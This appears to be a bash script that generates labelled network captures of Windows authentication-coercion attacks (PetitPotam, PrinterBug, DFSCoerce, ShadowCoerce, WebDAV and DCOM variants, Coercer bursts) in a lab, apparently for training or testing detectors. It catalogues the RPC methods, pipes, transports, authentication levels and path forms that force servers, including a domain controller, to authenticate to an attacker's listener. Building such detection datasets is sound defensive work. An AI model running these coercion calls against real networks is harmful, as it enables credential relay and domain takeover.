# Coercion, with and without a callback: one function records one capture.

scenario_petitpotam_pipe_clear() {
  callback_with libsmbclient
  record petitpotam_pipe_clear
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="Everything is readable: no SMB encryption, no RPC authentication. SMB2 WRITE and READ carry the pipe. The listener is impacket's smbserver, whose challenge is always aaaaaaaaaaaaaaaa."
}

scenario_petitpotam_tcp() {
  callback_with libsmbclient
  record petitpotam_tcp
  listen evil $EVIL
  call "ncacn_ip_tcp:$SRV" EfsRpcOpenFileRaw:efsrpc "$FILE" --map
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="The endpoint mapper on 135 hands out 49664, there bind and request without authentication."
}

scenario_petitpotam_593() {
  callback_with libsmbclient
  record petitpotam_593
  listen evil $EVIL
  call "ncacn_http:$SRV[593]" EfsRpcOpenFileRaw:efsrpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="The server speaks first: the 14 bytes ncacn_http/1.0, then bare DCE/RPC both ways."
}

scenario_petitpotam_rpc_over_http() {
  callback_with libsmbclient
  record petitpotam_rpc_over_http
  listen evil $EVIL
  call "ncacn_http:[593,RpcProxy=$SRV:80]" EfsRpcOpenFileRaw:efsrpc "$FILE" --proxy "http://$SRV/rpc/rpcproxy.dll"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="RPC over HTTP v2 on port 80: requests in the body of RPC_IN_DATA, answers on another connection in that of RPC_OUT_DATA, RTS PDUs between them, NTLM with a challenge of its own on each. tshark shows the bodies as HTTP data only."
}

scenario_petitpotam_sealed() {
  callback_with libsmbclient
  record petitpotam_sealed
  listen evil $EVIL
  coercer --filter-method-name EfsRpcOpenFileRaw --filter-pipe-name lsarpc
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$COERCER_CALL" \
    notes="Coercer as it comes: a test bind without authentication, then NTLM with PKT_PRIVACY, several forms of path. Interface and opnum are readable, the stub is not."
}

scenario_petitpotam_smb3_encrypted() {
  set_encryption default
  callback_with libsmbclient
  record petitpotam_smb3_encrypted
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:callback tools="$IMPACKET_CALL" \
    notes="The server offers SMB3 encryption, as modern servers do, and impacket takes it: of the call itself nothing is readable. What remains is timing and a machine account that logs on at its caller."
  set_encryption off
}

scenario_printerbug() {
  callback_with libsmbclient
  record printerbug
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\spoolss]" RpcRemoteFindFirstPrinterChangeNotificationEx "\\\\$EVIL" --level 2
  truth "${COERCED_HERE[@]}" expect=coercion:rprn tools="$IMPACKET_CALL" \
    notes="The caller names itself, by address. RPC authentication level CONNECT: credentials in the bind, the stub in clear."
}

scenario_dfscoerce() {
  callback_with libsmbclient
  record dfscoerce
  listen drop $DROP
  call "ncacn_np:$SRV[\\pipe\\netdfs]" NetrDfsRemoveStdRoot "$DROP"
  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP expect=coercion:dfsnm tools="$IMPACKET_CALL" \
    notes="The listener is another host than the caller. The server is named without backslashes, as the method wants it."
}

# --- Every method of the catalogue over every transport it has: one row, several scenarios.
#
# Columns: method of methods.py, label, pipes (the first also inside SMB3 encryption) or -, whether
# over a dynamic TCP port too, form of the path. Each gives coerce_METHOD_PIPE, coerce_METHOD_tcp and
# coerce_METHOD_PIPE_smb3enc.
COERCED_METHODS='
efsr-0    efsr   lsarpc,lsass,samr,netlogon,efsrpc  tcp  unc
efsr-4    efsr   efsrpc,lsarpc  tcp  unc
efsr-5    efsr   lsarpc         tcp  unc
efsr-6    efsr   samr           tcp  unc
efsr-7    efsr   lsass          tcp  unc
efsr-8    efsr   netlogon       tcp  unc
efsr-9    efsr   efsrpc         tcp  unc
efsr-12   efsr   lsarpc         tcp  unc
efsr-13   efsr   samr           tcp  unc
efsr-15   efsr   lsass          tcp  unc
efsr-16   efsr   netlogon       tcp  unc
efsr-21   efsr   efsrpc         tcp  unc
rprn-65   rprn   spoolss        tcp  host
rprn-62   rprn   spoolss        tcp  host
par-0     par    -              tcp  host
dfsnm-1   dfsnm  netdfs         -    unc
dfsnm-12  dfsnm  netdfs         -    bare
dfsnm-13  dfsnm  netdfs         -    bare
dfsnm-23  dfsnm  netdfs         -    unc
dfsnm-24  dfsnm  netdfs         -    unc
fsrvp-8   fsrvp  fssagentrpc    -    unc
fsrvp-9   fsrvp  fssagentrpc    -    unc
even-9    even   eventlog       -    nt
srvs-74   srvs   srvsvc         -    unc
tsch-1    tsch   atsvc          tcp  unc
rrp-20    rrp    winreg         -    unc
dhcpm-44  dhcpm  dhcpserver     tcp  unc
raiw-3    raiw   winspipe       -    unc
dnsp-0    dnsp   dnsserver      -    unc'

# The same at other levels: method, label, binding without the host, level, form of the path
COERCED_AT_LEVELS='
par-0     par    tcp         5  host
par-0     par    tcp         6  host
fsrvp-8   fsrvp  fssagentrpc 2  unc
even-9    even   eventlog    5  nt
dfsnm-13  dfsnm  netdfs      6  bare
rprn-65   rprn   tcp         6  host
srvs-74   srvs   srvsvc      2  unc
srvs-74   srvs   srvsvc      5  unc
tsch-1    tsch   atsvc       5  unc
rrp-20    rrp    winreg      2  unc
rrp-20    rrp    tcp         5  unc
dhcpm-44  dhcpm  dhcpserver  5  unc
raiw-3    raiw   winspipe    2  unc
raiw-3    raiw   tcp         5  unc
dnsp-0    dnsp   dnsserver   5  unc
dnsp-0    dnsp   tcp         2  unc'

coercion_scenarios() {
  local method label pipes tcp form pipe
  while read -r method label pipe tcp form; do
    [ -z "$method" ] || define "coerce_${method/-/}_${pipe}_level$tcp" "coerce_level $method $label $pipe $tcp $form"
  done <<< "$COERCED_AT_LEVELS"
  while read -r method label pipes tcp form; do
    [ -n "$method" ] || continue
    for pipe in ${pipes//[,-]/ }; do
      define "coerce_${method/-/}_$pipe" "coerce_pipe $method $label $pipe $form"
      case $pipes in
        $pipe*) define "coerce_${method/-/}_${pipe}_smb3enc" "coerce_pipe_encrypted $method $label $pipe $form" ;;
      esac
    done
    [ "$tcp" = - ] || define "coerce_${method/-/}_tcp" "coerce_tcp $method $label $form"
  done <<< "$COERCED_METHODS"
}

define() { eval "scenario_$1() { $2 $1; }"; } # name command: the name is its last argument

coercion_scenarios

path_form() { # form: how the method wants the listener to be named
  case $1 in
    unc) echo "\\\\$EVIL\\share\\file.txt" ;;
    host) echo "\\\\$EVIL" ;;
    bare) echo "$EVIL" ;;
    nt) echo "\\??\\UNC\\$EVIL\\share\\file.txt" ;;
  esac
}

coerce_pipe() { # method label pipe form name
  callback_with libsmbclient
  record "$5"
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\$3]" "$1" "$(path_form "$4")"
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:$2 expect=callback:smb tools="$IMPACKET_CALL" \
    notes="$1 of the method table over the pipe $3, all of it readable, and the logon of the machine account that follows."
}

coerce_pipe_encrypted() { # method label pipe form name
  set_encryption default
  callback_with libsmbclient
  record "$5"
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\$3]" "$1" "$(path_form "$4")"
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:callback tools="$IMPACKET_CALL" \
    notes="$1 over the pipe $3 inside SMB3 encryption: of the call nothing is readable, only the callback speaks."
  set_encryption off
}

coerce_level() { # method label pipe-or-tcp level form name
  local binding="ncacn_np:$SRV[\\pipe\\$3]" options=()
  [ "$3" = tcp ] && binding="ncacn_ip_tcp:$SRV[$DYNAMIC_PORT]"
  [ "$1" = par-0 ] && options=(--object 9940ca8e-512f-4c58-88a9-61098d6896bd)
  callback_with libsmbclient
  record "$6"
  listen evil $EVIL
  call "$binding" "$1" "$(path_form "$5")" --level "$4" "${options[@]}"
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:$2 expect=callback:smb tools="$IMPACKET_CALL" \
    notes="$1 over $3 at RPC authentication level $4 (2 connect, 5 integrity, 6 privacy)."
}

coerce_tcp() { # method label form name
  local options=() wakeup=()
  # Asking the endpoint mapper for the EFS service is what starts it on current servers.
  [ "$2" = efsr ] && wakeup=(expect=recon:efs-wakeup)
  # MS-PAR wants its object in every request; current servers want privacy too, which hides the path.
  [ "$1" = par-0 ] && options=(--object 9940ca8e-512f-4c58-88a9-61098d6896bd)
  callback_with libsmbclient
  record "$4"
  listen evil $EVIL
  call "ncacn_ip_tcp:$SRV" "$1" "$(path_form "$3")" --map "${options[@]}"
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:$2 expect=callback:smb "${wakeup[@]}" tools="$IMPACKET_CALL" \
    notes="$1 of the method table over TCP: the endpoint mapper hands out a dynamic port, there bind and request."
}

# efsr NAME NOTES BINDING [OPTIONS...]: EfsRpcOpenFileRaw in some other way
efsr() {
  local name=$1 notes=$2 binding=$3
  shift 3
  callback_with libsmbclient
  record "$name"
  listen evil $EVIL
  call "$binding" efsr-0 "$FILE" "$@"
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" notes="$notes"
}

EFSR_PIPE="ncacn_np:$SRV[\\pipe\\lsarpc]"
EFSR_PORT="ncacn_ip_tcp:$SRV[$DYNAMIC_PORT]"

scenario_efsr_pipe_connect() { efsr efsr_pipe_connect "RPC authentication at CONNECT over a pipe: credentials in the bind, the stub in clear." "$EFSR_PIPE" --level 2; }
scenario_efsr_pipe_integrity() { efsr efsr_pipe_integrity "PKT_INTEGRITY over a pipe: the stub in clear, a verifier behind it." "$EFSR_PIPE" --level 5; }
scenario_efsr_pipe_privacy() { efsr efsr_pipe_privacy "PKT_PRIVACY over a pipe: interface and opnum show, the path does not." "$EFSR_PIPE" --level 6; }
scenario_efsr_tcp_connect() { efsr efsr_tcp_connect "RPC authentication at CONNECT over TCP, without the endpoint mapper." "$EFSR_PORT" --level 2; }
scenario_efsr_tcp_integrity() { efsr efsr_tcp_integrity "PKT_INTEGRITY over TCP." "$EFSR_PORT" --level 5; }
scenario_efsr_tcp_privacy() { efsr efsr_tcp_privacy "PKT_PRIVACY over TCP." "$EFSR_PORT" --level 6; }
scenario_efsr_ndr64() { efsr efsr_ndr64 "NDR64 and nothing else is offered, as 64-bit Windows clients end up with." "$EFSR_PORT" --ndr64; }
scenario_efsr_object_uuid() { efsr efsr_object_uuid "The request carries an object UUID, so that the stub starts 16 bytes later." "$EFSR_PORT" --object c681d488-d850-11d0-8c52-00c04fd90f7e; }
scenario_efsr_null_session() { efsr efsr_null_session "A null session and then the call, as unpatched domain controllers take it." "$EFSR_PIPE" --anonymous; }

scenario_rprn65_ndr64_object() {
  callback_with libsmbclient
  record rprn65_ndr64_object
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\spoolss]" rprn-65 "\\\\$EVIL" --ndr64 --object 12345678-1234-abcd-ef00-0123456789ab
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:rprn expect=callback:smb tools="$IMPACKET_CALL" \
    notes="PrinterBug as a native Windows client sends it: NDR64, and the interface as object UUID in each request."
}

scenario_efsr_big_endian() {
  callback_with libsmbclient
  record efsr_big_endian
  listen evil $EVIL
  in_host evil timeout 20 /usr/bin/python3 "$HERE/call_samba.py" "ncacn_ip_tcp:$SRV[$DYNAMIC_PORT,bigendian]" efsr-0 "$FILE" > "$RUN/call.log" 2>&1 || true
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:efsr expect=callback:smb tools="samba-python 4.17.12, impacket 0.13.1" \
    notes="Samba's client in big-endian byte order: lengths, UUIDs and the path's characters are turned round, the answers are not."
}

# names NAME NOTES PATH: how the path names the listener
names() {
  callback_with libsmbclient
  record "$1"
  listen evil $EVIL "${@:4}"
  call "$EFSR_PIPE" efsr-0 "$3"
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" notes="$2"
}

scenario_path_hostname() { names path_hostname "The path names the listener by its DNS name, which the victim asks for first." "\\\\$(name_of evil).$DNS_DOMAIN\\share\\file.txt"; }
scenario_path_short_name() { names path_short_name "The path names the listener by one label." "\\\\$(name_of evil)\\share\\file.txt"; }
scenario_path_unc_prefix() { names path_unc_prefix "The path in its long form, \\\\?\\UNC\\host." "\\\\?\\UNC\\$EVIL\\share\\file.txt"; }

scenario_path_ipv6_literal() {
  callback_with libsmbclient
  record path_ipv6_literal
  listen6 evil
  call "$EFSR_PIPE" efsr-0 "\\\\${EVIL6//:/-}.ipv6-literal.net\\share\\file.txt"
  truth malicious=yes attacker=$EVIL victim=$SRV listener=$EVIL6 also=victim:$SRV6 also=attacker:$EVIL6 also=listener:$EVIL \
    family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" \
    notes="The call over IPv4 names an IPv6 address in the form that Windows paths allow, and the callback goes over IPv6: victim and listener have two addresses each."
}

scenario_ipv6_all() {
  callback_with libsmbclient
  record ipv6_all
  listen6 evil
  call "ncacn_ip_tcp:$SRV6[$DYNAMIC_PORT]" efsr-0 "\\\\$EVIL6\\share\\file.txt"
  truth malicious=yes attacker=$EVIL6 victim=$SRV6 listener=$EVIL6 family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" \
    notes="Call and callback over IPv6."
}

scenario_ipv6_pipe() {
  callback_with libsmbclient
  record ipv6_pipe
  listen6 evil
  call "ncacn_np:$SRV6[\\pipe\\efsrpc]" efsr-0 "\\\\$EVIL6\\share\\file.txt"
  truth malicious=yes attacker=$EVIL6 victim=$SRV6 listener=$EVIL6 family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" \
    notes="A pipe over IPv6, and the callback over IPv6."
}

# third LABEL METHOD PIPE FORM-OF-PATH NAME: the listener is another host than the caller
by_third_party() {
  callback_with libsmbclient
  record "$5"
  listen drop $DROP
  call "ncacn_np:$SRV[\\pipe\\$3]" "$2" "$4"
  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP family=coercion expect=coercion:$1 expect=callback:smb tools="$IMPACKET_CALL" \
    notes="The caller and the listener are two hosts: $2."
}

scenario_third_party_efsr() { by_third_party efsr efsr-4 lsarpc "\\\\$DROP\\share\\file.txt" third_party_efsr; }
scenario_third_party_rprn() { by_third_party rprn rprn-65 spoolss "\\\\$DROP" third_party_rprn; }

scenario_third_party_smb3enc() {
  set_encryption default
  callback_with libsmbclient
  record third_party_smb3enc
  listen drop $DROP
  call "$EFSR_PIPE" efsr-0 "\\\\$DROP\\share\\file.txt"
  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP family=coercion expect=coercion:callback tools="$IMPACKET_CALL" \
    notes="Encrypted call, and the callback goes to a host that the caller never spoke to."
  set_encryption off
}

# webdav NAME NOTES METHOD BINDING PATH [LABEL]
webdav() {
  record "$1"
  rogue evil $EVIL
  call "$4" "$3" "$5"
  truth "${COERCED_HERE[@]}" family=coercion "${@:6}" tools="$IMPACKET_CALL, pyspnego 0.12.1" notes="$2"
}

WEBDAV_SEEN=(expect=callback:http expect=webdav)
scenario_webdav_efsr() { webdav webdav_efsr "host@80 in the path: the victim's redirector comes over HTTP, with NTLM as the machine account." efsr-0 "$EFSR_PIPE" "\\\\$(name_of evil)@80\\share\\file.txt" expect=coercion:efsr "${WEBDAV_SEEN[@]}"; }
scenario_webdav_efsr_tcp() { webdav webdav_efsr_tcp "WebDAV path by address, call over TCP." efsr-4 "$EFSR_PORT" "\\\\$EVIL@80\\share\\file.txt" expect=coercion:efsr "${WEBDAV_SEEN[@]}"; }
scenario_webdav_rprn() { webdav webdav_rprn "PrinterBug with a WebDAV path." rprn-65 "ncacn_np:$SRV[\\pipe\\spoolss]" "\\\\$(name_of evil)@80\\print" expect=coercion:rprn "${WEBDAV_SEEN[@]}"; }
scenario_webdav_fsrvp() { webdav webdav_fsrvp "ShadowCoerce with a WebDAV path and its full DNS name." fsrvp-8 "ncacn_np:$SRV[\\pipe\\fssagentrpc]" "\\\\$(name_of evil).$DNS_DOMAIN@80\\share" expect=coercion:fsrvp "${WEBDAV_SEEN[@]}"; }
scenario_webdav_smb3enc() {
  set_encryption default
  webdav webdav_smb3enc "WebDAV callback after an encrypted call." efsr-0 "$EFSR_PIPE" "\\\\$(name_of evil)@80\\share\\file.txt" expect=coercion:callback expect=webdav
  set_encryption off
}

# dcom NAME NOTES BINDING LISTENER-HOST LISTENER-ADDRESS
dcom() {
  record "$1"
  rogue "$4" "$5"
  call "ncacn_ip_tcp:$SRV[135]" dcom-oxid "$3" --level "${6:-2}"
  truth malicious=yes attacker=$EVIL victim=$SRV listener="$5" family=coercion expect=coercion:dcom expect=callback:rpc tools="$IMPACKET_CALL" notes="$2"
}

scenario_dcom_oxid() { dcom dcom_oxid "RemoteActivation with an object whose exporter is the listener: the victim resolves it at L:135 and goes to the port named there, as its machine account." "$EVIL" evil $EVIL; }
scenario_dcom_oxid_port() { dcom dcom_oxid_port "The string binding names the resolver's port too." "$EVIL[135]" evil $EVIL; }
scenario_dcom_oxid_third_party() { dcom dcom_oxid_third_party "The exporter is another host than the caller, named by address." "$DROP" drop $DROP 5; }

wsp_search() { # name notes path labels...
  callback_with libsmbclient
  record "$1"
  listen evil $EVIL
  in_host evil timeout 30 "$IMPACKET/python" "$HERE/call.py" "ncacn_np:$SRV" wsp "$3" > "$RUN/call.log" 2>&1 || true
  truth "${COERCED_HERE[@]}" family=coercion "${@:4}" tools="$IMPACKET_CALL" notes="$2"
}

scenario_wsp() { wsp_search wsp "A search query over the pipe MsFteWds whose scope is a file URL at the listener. Not DCE/RPC." "file:////$EVIL/share" expect=coercion:wsp expect=callback:smb; }
scenario_wsp_name() { wsp_search wsp_name "The scope names the listener by its DNS name." "file:////$(name_of evil).$DNS_DOMAIN/SomeFolder" expect=coercion:wsp expect=callback:smb; }
scenario_wsp_smb3enc() {
  set_encryption default
  wsp_search wsp_smb3enc "The same query inside SMB3 encryption." "file:////$EVIL/share" expect=coercion:callback
  set_encryption off
}

# Coercer as an operator runs it, one family at a time and then everything.
coercer_family() { # name label protocol
  callback_with impacket
  record "$1"
  listen evil $EVIL
  coercer --filter-protocol-name "$3" --delay 0
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:$2 expect=callback:smb tools="$COERCER_CALL" \
    notes="Coercer with every method of $3 that it knows: test binds, then PKT_PRIVACY, several forms of path."
}
scenario_coercer_rprn() { coercer_family coercer_rprn rprn MS-RPRN; }
scenario_coercer_dfsnm() { coercer_family coercer_dfsnm dfsnm MS-DFSNM; }
scenario_coercer_fsrvp() { coercer_family coercer_fsrvp fsrvp MS-FSRVP; }
scenario_coercer_even() { coercer_family coercer_even even MS-EVEN; }

scenario_coercer_burst() {
  callback_with impacket
  record coercer_burst
  listen evil $EVIL
  in_host evil timeout 200 "$COERCER/coercer" coerce --always-continue -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN \
    -t $SRV -l $EVIL --auth-type smb --filter-transport-name msrpc --delay 0 > "$RUN/coercer.log" 2>&1 || true
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:efsr expect=coercion:rprn expect=coercion:dfsnm expect=coercion:fsrvp \
    expect=coercion:even expect=callback:smb expect=recon:pipes tools="$COERCER_CALL" \
    notes="Coercer with everything it has: about two hundred calls in a burst, which is one incident."
}

scenario_burst_readable() {
  callback_with impacket
  record burst_readable
  listen evil $EVIL
  call "$EFSR_PORT" efsr-4 "$FILE" --repeat 40
  truth "${COERCED_HERE[@]}" family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" \
    notes="Forty times the same call in one association, and forty logons: one incident."
}

# Attempts that the server refuses: a real Samba domain controller implements none of the methods.
refused() { # name notes label... -- command
  local name=$1 notes=$2 labels=()
  shift 2
  while [ "$1" != -- ]; do labels+=("expect=$1"); shift; done
  shift
  record "$name"
  listen evil $EVIL
  "$@"
  truth malicious=yes attacker=$EVIL victim=$DC listener=$EVIL family=coercion outcome=refused "${labels[@]}" tools="$IMPACKET_CALL" notes="$notes"
}

scenario_refused_dfsnm() { refused refused_dfsnm "The domain controller answers NetrDfsRemoveStdRoot with a fault: an attempt, readable, without a callback." coercion:dfsnm -- call "ncacn_np:$DC[\\pipe\\netdfs]" dfsnm-13 "$EVIL"; }
scenario_refused_even() { refused refused_even "The domain controller answers ElfrOpenBELW with a fault." coercion:even -- call "ncacn_np:$DC[\\pipe\\eventlog]" even-9 "\\??\\UNC\\$EVIL\\share\\file.txt"; }
scenario_refused_rprn() { refused refused_rprn "PrinterBug against Samba's own spooler on the domain controller: it opens no printer of another host, and the notification is refused." coercion:rprn -- call "ncacn_np:$DC[\\pipe\\spoolss]" rprn-65 "\\\\$EVIL"; }
scenario_refused_bind() { refused refused_bind "The domain controller does not know EFSR: the bind is rejected and no call is ever made." coercion-attempt-rejected -- call "ncacn_np:$DC[\\pipe\\lsarpc]" efsr-0 "$FILE"; }

# A domain controller as the victim: stand-ins beside the real one. What it does is its own logon
# at a workstation that never was its server, which is alarming for that alone.
dc_victim() { # name notes method binding path labels...
  callback_with libsmbclient
  start_dc_victim
  record "$1"
  listen evil $EVIL
  call "$4" "$3" "$5"
  truth malicious=yes attacker=$EVIL victim=$DC listener=$EVIL family=coercion expect=tier0-outbound "${@:6}" tools="$IMPACKET_CALL" notes="$2"
}

scenario_dc_efsr_pipe() { dc_victim dc_efsr_pipe "The domain controller is coerced over the pipe efsrpc." efsr-0 "ncacn_np:$DC[\\pipe\\efsrpc]" "$FILE" expect=coercion:efsr expect=callback:smb; }
scenario_dc_efsr_tcp() { dc_victim dc_efsr_tcp "The domain controller is coerced over TCP." efsr-4 "ncacn_ip_tcp:$DC[$DYNAMIC_PORT]" "$FILE" expect=coercion:efsr expect=callback:smb; }
scenario_dc_efsr_other() { dc_victim dc_efsr_other "The domain controller is coerced by EfsRpcQueryUsersOnFile." efsr-6 "ncacn_ip_tcp:$DC[$DYNAMIC_PORT]" "$FILE" expect=coercion:efsr expect=callback:smb; }
scenario_dc_fsrvp() { dc_victim dc_fsrvp "The domain controller is coerced over FSRVP." fsrvp-9 "ncacn_np:$DC[\\pipe\\fssagentrpc]" "\\\\$EVIL\\share" expect=coercion:fsrvp expect=callback:smb; }
scenario_dc_593() { dc_victim dc_593 "The domain controller is coerced over port 593." efsr-0 "ncacn_http:$DC[593]" "$FILE" expect=coercion:efsr expect=callback:smb; }
